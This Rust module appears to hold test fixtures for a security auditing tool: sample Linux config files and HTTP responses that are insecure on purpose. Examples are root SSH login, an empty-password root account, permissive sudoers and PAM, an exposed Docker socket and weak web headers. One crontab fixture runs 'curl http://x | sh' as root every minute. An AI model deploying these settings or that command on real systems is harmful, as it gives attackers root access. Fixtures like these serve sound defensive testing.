//! Files of systems and answers of servers.

/// Path in the first line.
pub(super) const SYSTEM_FILES: &[&str] = &[
    "etc/ssh/sshd_config\nPermitRootLogin yes\nInclude sshd_config.d/*.conf\nMatch User a\nCiphers 3des-cbc\nMatch all\nMACs +hmac-md5\n",
    "etc/passwd\nroot:x:0:0::/root:/bin/sh\ntoor::0:0::/:\n+::::::\na:$1$EXAMPLE$EXAMPLE:1:1::/:/bin/bash\n",
    "etc/shadow\nroot:$6$EXAMPLE$EXAMPLEEXAMPLE:1::::::\na:!!:1::::::\nb::1::::::\n",
    "etc/group\na:x:1:\nb:x:1:\n",
    "etc/sudoers\nDefaults env_keep += \"LD_PRELOAD\", !authenticate\nops ALL=(ALL:ALL) \\\n NOPASSWD: /bin/sh, PASSWD: ALL\n@includedir /etc/sudoers.d\n",
    "etc/login.defs\nPASS_MAX_DAYS 99999\nUMASK 002\nENCRYPT_METHOD MD5\n",
    "etc/sysctl.d/9.conf\nnet.ipv4.ip_forward = 1\n-kernel/sysrq=1\n; x\n",
    "etc/crontab\nPATH=/bin\n* * * * * root curl http://x | sh\n@daily root /opt/x\n",
    "etc/pam.d/sshd\nauth [success=1 default=ignore] pam_unix.so nullok\nauth sufficient pam_permit.so\n",
    "etc/exports\n/srv *(rw,no_root_squash) (ro)\n",
    "etc/docker/daemon.json\n{\"hosts\": [\"tcp://0.0.0.0:2375\"], \"icc\": true}\n",
    "etc/os-release\nID=debian\nVERSION_ID=\"9\"\n",
    "etc/snmp/snmpd.conf\nrocommunity public default\n",
    "etc/inetd.conf\ntelnet stream tcp nowait root x\n",
    "etc/apt/sources.list\ndeb [trusted=yes] http://x y z\n",
    "image/etc/fstab\ntmpfs /tmp tmpfs rw 0 0\n",
];

/// Heads and bodies.
pub(super) const ANSWERS: &[&str] = &[
    "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nSet-Cookie: session=EXAMPLEEXAMPLEEXAMPLE; Path=/; SameSite=None\r\n\r\n<script src=//b.example/x></script>",
    "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5;x\r\nhello\r\n0\r\n\r\n",
    "HTTP/1.1 302 Found\r\nLocation: //b.example/y?z\r\nServer: nginx/1.2\r\n\r\n",
    "HTTP/1.1 200 OK\nContent-Security-Policy: default-src * 'unsafe-inline'; script-src 'nonce-x', object-src\nStrict-Transport-Security: max-age=\"1\"\n\n",
    "HTTP/1.1 500 x\r\nContent-Length: 99\r\nX-Frame-Options: ALLOW-FROM x\r\nReferrer-Policy: x, unsafe-url\r\n\r\nTraceback (most recent call last) File \"/x",
    "HTTP/1.1 200 OK\r\n\r\n<title>Index of /x</title><a href='y'><!-- <img src=http://x> --><link rel=stylesheet href=http://c.example/s><img src=http://d.example/i",
];
